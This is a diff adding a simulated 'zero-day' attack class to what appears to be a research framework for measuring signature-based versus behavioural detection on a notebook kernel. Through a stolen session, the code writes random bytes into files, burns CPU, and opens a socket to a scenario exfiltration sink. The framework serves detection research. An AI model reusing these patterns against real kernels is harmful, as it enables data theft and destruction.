@@ -1,0 +1,75 @@
+"""The zero-day stand-in (taxonomy: "unknown unknown" zero-day exploits).
+
+By construction this attack matches no shipped signature: its payload
+markers are derived from the scenario seed, and its behaviour profile is
+configurable.  It exists to measure the *blind spot* of signature-based
+detection versus behavioural detection — the reason the paper's Fig. 3
+keeps an explicit "unknown unknown" branch.
+"""
+
+from __future__ import annotations
+
+from typing import Set
+
+from repro.attacks.base import Attack, AttackResult
+from repro.attacks.scenario import Scenario
+from repro.taxonomy.oscrp import Avenue, Concern
+
+
+class ZeroDayAttack(Attack):
+    """A novel attack: unique strings, configurable behavioural footprint."""
+
+    name = "zero-day"
+    avenue = Avenue.ZERO_DAY
+    technique = "novel-exploit-standin"
+
+    def __init__(self, *, exfil_bytes: int = 0, overwrite_files: int = 0,
+                 burn_cpu_ops: int = 0):
+        self.exfil_bytes = exfil_bytes
+        self.overwrite_files = overwrite_files
+        self.burn_cpu_ops = burn_cpu_ops
+
+    def execute(self, scenario: Scenario) -> AttackResult:
+        client = scenario.user_client(username="attacker-via-stolen-session")
+        scenario.audited_session(client)
+        marker = f"zd_{scenario.rng.child('zeroday').randint(10**9, 10**10)}"
+        concerns: Set[Concern] = set()
+        actions = []
+        # A benign-looking staging cell with a never-before-seen marker.
+        reply = client.execute(f"{marker} = 'initialized'\n{marker}")
+        ok = reply is not None and reply.content.get("status") == "ok"
+        if self.burn_cpu_ops > 0:
+            client.execute(
+                f"acc = 0\nfor i in range({self.burn_cpu_ops}):\n    acc += i"
+            )
+            concerns.add(Concern.DISRUPTION_OF_COMPUTING)
+            actions.append(f"burned ~{self.burn_cpu_ops} ops")
+        if self.overwrite_files > 0:
+            lines = ["import random"]
+            for i in range(self.overwrite_files):
+                lines += [
+                    f"h{i} = open('{marker}_{i}.dat', 'wb')",
+                    f"h{i}.write(random.randbytes(256))",
+                    f"h{i}.close()",
+                ]
+            client.execute("\n".join(lines))
+            concerns.add(Concern.INACCESSIBLE_OR_INCORRECT_DATA)
+            actions.append(f"overwrote {self.overwrite_files} files")
+        if self.exfil_bytes > 0:
+            client.execute(
+                "import socket\n"
+                "s = socket.socket()\n"
+                f"s.connect(('{scenario.exfil_sink.host.ip}', {scenario.exfil_sink.port}))\n"
+                f"s.send('A' * {self.exfil_bytes})"
+            )
+            scenario.run(3.0)
+            if scenario.exfil_sink.total_bytes() > 0:
+                concerns.add(Concern.EXPOSED_DATA)
+                actions.append(f"exfiltrated {self.exfil_bytes} bytes")
+        return self._result(
+            success=ok,
+            concerns=concerns,
+            narrative="zero-day stand-in: " + ("; ".join(actions) or "staging only"),
+            marker=marker,
+            actions=len(actions),
+        )
